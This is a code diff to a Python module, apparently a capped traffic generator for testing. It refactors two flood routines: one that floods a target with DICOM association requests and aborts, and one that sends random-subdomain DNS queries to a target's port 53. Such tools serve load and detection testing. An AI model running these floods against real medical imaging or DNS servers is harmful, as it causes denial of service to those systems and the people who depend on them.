@@ -7,7 +7,6 @@ import http.client
 import os
 import socket
 import ssl
-import struct
 import threading
 from typing import TYPE_CHECKING
 
@@ -141,23 +140,18 @@ def dicom_flood(
 ) -> None:
     """DICOM associations asked for and dropped, after the answer or without waiting for it."""
 
-    def item(kind: int, body: bytes) -> bytes:
-        return struct.pack(">BBH", kind, 0, len(body)) + body
+    from .dicom_wire import ABORT, request
 
-    context = b"\1\0\0\0" + item(0x30, b"1.2.840.10008.1.1") + item(0x40, b"1.2.840.10008.1.2")
-    user = item(0x51, struct.pack(">I", 16384)) + item(0x52, b"1.2.826.0.1.3680043.9.3811.0.9.0")
-    body = struct.pack(">HH16s16s32x", 1, 0, b"STMPACS".ljust(16), b"LOAD".ljust(16))
-    body += item(0x10, b"1.2.840.10008.3.1.1.1") + item(0x20, context) + item(0x50, user)
-    request = struct.pack(">BBI", 1, 0, len(body)) + body
+    asked = request("STMPACS", "LOAD")
 
     def one() -> None:
         if s := ctx.connect(targets[0], port, 3):
             with s:
                 s.settimeout(3)
-                s.sendall(request)
+                s.sendall(asked)
                 if answer:
                     s.recv(500)
-                    s.sendall(bytes.fromhex("07000000000400000000"))  # A-ABORT
+                    s.sendall(ABORT)
 
     spread(ctx, (one for _ in range(min(count, MAX_PACKETS))), rate, threads, seconds)
 
@@ -195,20 +189,16 @@ def dns_flood(
     rate: float = 150,
     zone: str = ZONE,
     kind: int = 1,
-    same_port: bool = False,
+    per_port: int = 1,
     seconds: float = 60,
 ) -> None:
-    """Questions for names nobody has, faster than any host asks; from a new port each, or all from one."""
-    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one_socket:
+    """Questions for names nobody has, faster than any host asks, some from each port; answers are not awaited long."""
 
-        def one() -> None:
-            asked = question(f"{ctx.rng.randrange(16**10):x}.{zone}", kind, ctx.rng)
-            if same_port:
-                one_socket.sendto(asked, (targets[0], 53))
-                return
-            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
-                s.settimeout(0.4)
-                s.sendto(asked, (targets[0], 53))
-                s.recv(600)
+    def one() -> None:
+        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+            s.settimeout(0.4)
+            for _ in range(per_port):
+                s.sendto(question(f"{ctx.rng.randrange(16**10):x}.{zone}", kind, ctx.rng), (targets[0], 53))
+            s.recv(600)
 
-        spread(ctx, (one for _ in range(min(count, MAX_PACKETS))), rate, 4, seconds)
+    spread(ctx, (one for _ in range(min(count, MAX_PACKETS) // per_port)), rate / per_port, 4, seconds)
